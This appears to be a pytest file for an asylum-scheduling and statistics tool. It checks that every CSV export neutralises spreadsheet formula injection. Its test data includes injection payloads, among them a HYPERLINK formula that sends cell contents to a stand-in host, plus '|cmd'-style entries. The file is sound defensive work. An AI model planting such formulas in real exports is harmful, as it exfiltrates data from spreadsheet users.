"""Issue 11: spreadsheet formulas are neutralised in every CSV asilo writes, including the ones
DuckDB writes (``schedule allocate``'s appointments, ``identity link``'s C.csv and review
pairs) and the ones made from the statistics store.

:func:`test_every_csv_writer_is_known` walks the source for CSV writers (``csv.writer``,
``csv.DictWriter``, DuckDB's ``COPY ... TO``): each module either neutralises through
:mod:`asilo.csvsafe` or is listed in :data:`NOT_A_SPREADSHEET` with the reason, so a new writer
fails until it is placed.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

from asilo.cli.registry import build
from asilo.csvsafe import FORMULA_STARTS, safe_text, sql_safe_text, sql_text_back
from asilo.scheduling import load_method
from asilo.scheduling.bulk import allocate_files
from asilo.scheduling.csv_io import read_capacity_csv, read_registrations_csv
from asilo.stats import charts, importer, reports, store

SRC = Path(__file__).resolve().parents[2] / "src" / "asilo"
CBP = Path(__file__).resolve().parents[2] / "data" / "real" / "cbp"

#: Text cells that a spreadsheet would run, and text it would not.
CASES = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=1+1",
    "+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "|cmd",
    "%0",
    "'=already",
    "Hidalgo",
    "a=b",
    "",
    "São Paulo",
    "=",
]

#: Modules that write CSV without the neutraliser, and why that is right.
NOT_A_SPREADSHEET = {
    "scheduling/digest.py": "the canonical REGS.csv/CAP.csv text whose SHA-256 is the run's "
    "input digest: `schedule verify-run --export` must give back the very bytes that were "
    "digested, so `schedule allocate` re-runs to the same digest",
    "linkage/synth.py": "synthetic R.csv/T.csv from built-in name lists (no cell starts like "
    "a formula; a test of synth checks the lists)",
}


def _writers() -> dict[str, str]:
    found = {}
    for path in sorted(SRC.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\b(COPY|copy) \(\{\w+\}\) (TO|to)\b", text):
            found[str(path.relative_to(SRC))] = text
    return found


def test_every_csv_writer_is_known() -> None:
    writers = _writers()
    assert len(writers) >= 8
    for name, text in writers.items():
        if name in NOT_A_SPREADSHEET:
            continue
        assert re.search(r"asilo\.csvsafe|safe_text|safe_dict|safe_row|csv_cell", text), (
            f"{name} writes CSV without asilo.csvsafe; neutralise its text cells or list it "
            "in NOT_A_SPREADSHEET with the reason"
        )
    assert set(NOT_A_SPREADSHEET) <= set(writers), "a listed module no longer writes CSV"


@pytest.mark.parametrize("text", CASES)
def test_the_sql_neutraliser_agrees_with_the_python_one(text: str) -> None:
    con = duckdb.connect()
    got = con.execute(f"SELECT {sql_safe_text('v')} FROM (SELECT ?::VARCHAR AS v)", [text])
    assert got.fetchone() == (safe_text(text),)
    assert con.execute(f"SELECT {sql_safe_text('NULL::VARCHAR')}").fetchone() == (None,)


@pytest.mark.parametrize("text", CASES)
def test_a_neutralised_cell_reads_back_as_it_was(text: str) -> None:
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return  # the one text that cannot come back: it looks neutralised already
    con = duckdb.connect()
    got = con.execute(
        f"SELECT {sql_text_back('v')} FROM (SELECT ?::VARCHAR AS v)", [safe_text(text)]
    )
    assert got.fetchone() == (text,)


def test_every_formula_start_is_in_both() -> None:
    for start in FORMULA_STARTS:
        test_the_sql_neutraliser_agrees_with_the_python_one(start + "x")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


FORMULA_PORTS = ["=HYPERLINK(1)", "@SUM(1)", "+1", "-x", "|cmd", "%0"]


def test_schedule_allocate_neutralises_port_names_in_bulk_as_line_by_line(
    tmp_path: Path,
) -> None:
    ports = [*FORMULA_PORTS, "San Ysidro"]
    cap = tmp_path / "cap.csv"
    cap.write_text(
        "port,date,capacity\n" + "".join(f'"{p}",2023-07-0{d},2\n' for p in ports for d in (1, 2)),
        encoding="utf-8",
    )
    regs = tmp_path / "regs.csv"
    regs.write_text(
        "registration_id,family_size,registered_on,tier,preferred_ports\n"
        + "".join(f'F{i},1,2023-01-{i + 1:02d},2,"{p}"\n' for i, p in enumerate(ports)),
        encoding="utf-8",
    )
    out = tmp_path / "appointments.csv"
    method = load_method()
    result = allocate_files(regs, cap, method=method, seed=3, out=out)
    assert result.bulk
    rows = _cells(out.read_text(encoding="utf-8"))
    written = {row[2] for row in rows[1:]}
    assert written == {safe_text(p) for p in ports}
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    # the same text as the line-by-line writer (asilo.scheduling.csv_io.appointments_csv)
    from asilo.scheduling.allocation import allocate
    from asilo.scheduling.csv_io import appointments_csv

    capacity = read_capacity_csv(cap)
    families = read_registrations_csv(
        regs, known_ports={c.port for c in capacity}, known_tiers=set(method.tier_numbers())
    )
    reference = appointments_csv(allocate(families, capacity, method=method, seed=3))
    assert out.read_text(encoding="utf-8") == reference


RECORDS = (
    "record_id,given_names,first_surname,second_surname,date_of_birth,sex,nationality,"
    "a_number,document_number\n"
    "=1+1,Alejandra,Argueta,Toledo,1985-03-29,F,MEX,,\n"
    "@SUM(A1),Alejandra,Argueta,Toledo,1985-03-29,F,MEX,,\n"
    "-R3,Alejandra,Argeta,Toledo,1985-03-29,F,MEX,,\n"
    "R4,Jose,Perez,Lopez,1990-01-01,M,HND,,\n"
)


def test_identity_link_neutralises_record_ids_in_c_csv_and_review_pairs(tmp_path: Path) -> None:
    records = tmp_path / "R.csv"
    records.write_text(RECORDS, encoding="utf-8")
    out, review = tmp_path / "C.csv", tmp_path / "review.csv"
    result = CliRunner().invoke(
        build(),
        [
            "identity",
            "link",
            "--records",
            str(records),
            "--out",
            str(out),
            "--review-out",
            str(review),
        ],
    )
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_text(encoding="utf-8"))
    assert {r[0] for r in rows[1:]} == {"'=1+1", "'@SUM(A1)", "'-R3", "R4"}
    # identity evaluate reads the neutralised ids back and finds every record of the truth
    truth = tmp_path / "T.csv"
    truth.write_text(
        "record_id,true_identity_id\n=1+1,P1\n@SUM(A1),P1\n-R3,P1\nR4,P2\n", encoding="utf-8"
    )
    scored = CliRunner().invoke(
        build(),
        [
            "identity",
            "evaluate",
            "--records",
            str(records),
            "--truth",
            str(truth),
            "--clusters",
            str(out),
            "--csv",
        ],
    )
    assert scored.exit_code == 0, scored.output
    assert scored.stdout.splitlines()[1].startswith("all,3,")
    for path in (out, review):
        for row in _cells(path.read_text(encoding="utf-8"))[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (path, row)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_the_statistics_store_keeps_the_text_and_every_csv_from_it_neutralises(
    tmp_path: Path,
) -> None:
    lines = (CBP / "cbp_nationwide_encounters_aor_2020_apr_excerpt.csv").read_text().splitlines()
    poisoned = lines[1].replace("BRAZIL", '"=HYPERLINK(""http://x.example"",""x"")"')
    assert poisoned != lines[1]
    cbp = tmp_path / "cbp.csv"
    cbp.write_text("\n".join([lines[0], poisoned, lines[2]]) + "\n", encoding="utf-8")
    db = tmp_path / "stats.duckdb"
    con = store.connect(db)
    importer.import_files(con, [cbp])
    stored = {r[0] for r in con.execute("SELECT citizenship FROM encounters").fetchall()}
    assert any(c.startswith("=HYPERLINK") for c in stored)  # the store holds the data as given
    rows = reports.totals(con, reports.Query(by=reports.dimensions(["citizenship"])))
    con.close()
    table = _cells(charts.data_table_csv(rows))
    assert any(r[0].startswith("'=HYPERLINK") for r in table[1:])
    report = CliRunner().invoke(
        build(),
        ["stats", "report", "--by", "citizenship", "--format", "csv", "--db", str(db)],
    )
    assert report.exit_code == 0, report.output
    cells = [c for row in _cells(report.stdout)[1:] for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith(FORMULA_STARTS) and not _is_number(c) for c in cells)
